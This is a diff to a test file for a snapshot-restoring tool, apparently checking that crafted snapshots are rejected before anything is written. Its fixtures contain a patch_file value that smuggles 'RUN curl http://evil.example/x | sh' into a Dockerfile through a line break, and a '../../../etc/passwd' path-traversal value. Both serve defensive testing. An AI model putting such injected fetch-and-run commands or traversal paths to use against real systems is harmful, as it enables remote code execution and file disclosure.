@@ -71,7 +71,7 @@ describe('crafted snapshots are refused before anything is written', () => {
   it('refuses a patch_file with a line break, which could otherwise reach a Dockerfile comment', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
     const { repo, commit } = repoWithOneCommit('newline-repo');
-    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', untracked: [] } };
+    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', patch_sha256: null, patch_size: null, patch_error: null, untracked: [] } };
     const dir = join(work, 'newline');
     mkdirSync(dir);
     writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
@@ -84,7 +84,7 @@ describe('crafted snapshots are refused before anything is written', () => {
   it('refuses a patch_file that points outside the snapshot folder', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
     const { repo, commit } = repoWithOneCommit('outside-repo');
-    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', untracked: [] } };
+    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', patch_sha256: null, patch_size: null, patch_error: null, untracked: [] } };
     const dir = join(work, 'escape');
     mkdirSync(dir);
     writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
